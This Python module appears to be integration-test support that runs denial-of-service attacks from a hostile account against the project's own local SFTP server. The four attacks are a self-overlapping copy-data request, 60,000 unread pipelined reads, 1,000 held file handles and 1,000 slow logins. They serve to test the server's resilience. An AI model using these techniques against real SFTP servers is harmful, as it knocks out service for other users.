"""What a hostile account does over SFTP for as long as it is let, in a process of its own.

It goes behind everything else for the processor: what it costs the others is what it makes the server do.
"""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
from collections.abc import Awaitable, Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import asyncssh
from asyncssh.constants import FXF_CREAT, FXF_READ, FXF_WRITE, FXP_EXTENDED, FXP_INIT, FXP_OPEN, FXP_READ, FXP_WRITE
from asyncssh.packet import String, UInt32, UInt64
from integration import elsewhere

from calypso.local import keys
from calypso.settings import Settings

FIRST = String(bytes(4))  # the handle that a session gives first
THEIRS = "inbox/attack.part"
READS = 60_000
BLOCKS = 16  # of 32 KB: more than a server copies at a time, which stops where it reads less
CONNECTIONS = 1_000


def packet(kind: int, *parts: bytes) -> bytes:
    """Return a request as it goes over the wire."""
    return String(bytes([kind]) + b"".join(parts))


async def session(connection: asyncssh.SSHClientConnection) -> Any:
    """Open a session in which nothing is read, and in it a file; return the channel to write to."""
    channel, _ = await connection.create_session(asyncssh.SSHClientSession, subsystem="sftp", encoding=None)
    channel.pause_reading()
    channel.write(packet(FXP_INIT, UInt32(3)))
    flags = UInt32(FXF_READ | FXF_WRITE | FXF_CREAT)
    channel.write(packet(FXP_OPEN, UInt32(0), String(THEIRS), flags, UInt32(0)))
    return channel


async def copy_onto_itself(connect: Callable[[], Any], _: int) -> None:
    async with connect() as connection:
        channel = await session(connection)
        for number in range(BLOCKS):
            channel.write(packet(FXP_WRITE, UInt32(1), FIRST, UInt64(number * 32768), String(bytes(32768))))
        where = FIRST, UInt64(0), UInt64(2**60), FIRST, UInt64(BLOCKS * 32768)
        channel.write(packet(FXP_EXTENDED, UInt32(2), String("copy-data"), *where))
        await asyncio.sleep(3600)


async def leave_answers_unread(connect: Callable[[], Any], _: int) -> None:
    async with connect() as connection:
        channel = await session(connection)
        channel.write(packet(FXP_WRITE, UInt32(1), FIRST, UInt64(0), String(bytes(32768))))
        channel.write(packet(FXP_READ, UInt32(2), FIRST, UInt64(0), UInt32(32768)) * READS)
        await asyncio.sleep(3600)


async def open_handles(connect: Callable[[], Any], _: int) -> None:
    async with connect() as connection, connection.start_sftp_client() as client:
        await (await client.open(THEIRS, "wb")).close()
        held = []
        while True:
            try:
                held.append(await client.open(THEIRS, "rb"))
            except asyncssh.SFTPError:
                await asyncio.sleep(1)
            if len(held) == CONNECTIONS:
                await asyncio.sleep(3600)


async def log_in_slowly(_: Callable[[], Any], port: int) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                while await reader.read(4096):
                    pass
                writer.close()
            await asyncio.sleep(5)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))


WAYS: Mapping[str, Callable[[Callable[[], Any], int], Awaitable[None]]] = {
    "copy-data onto itself": copy_onto_itself,
    "60,000 answers unread": leave_answers_unread,
    "1,000 handles": open_handles,
    "1,000 slow logins": log_in_slowly,
}


@contextmanager
def attack(stack: Settings, account: str, way: str) -> Iterator[None]:
    """Let an account attack the stack's SFTP server for as long as the block runs."""
    key = str(keys.private(stack.home, account))
    command = [sys.executable, "-m", "integration.attacks"]
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])}
    process = subprocess.Popen([*command, way, account, key, str(stack.sftp_port), str(stack.home)], env=environment)
    try:
        yield
        assert process.poll() is None, "the attack has ended by itself"
    finally:
        process.kill()
        process.wait(20)


def main(way: str, account: str, key: str, port: str, home: str) -> None:
    """Attack until killed."""
    elsewhere.enter(Path(home))

    def connect() -> Any:
        return asyncssh.connect(
            "127.0.0.1", int(port), username=account, client_keys=[key], known_hosts=None, config=None
        )

    asyncio.run(WAYS[way](connect, int(port)))


if __name__ == "__main__":
    main(*sys.argv[1:])
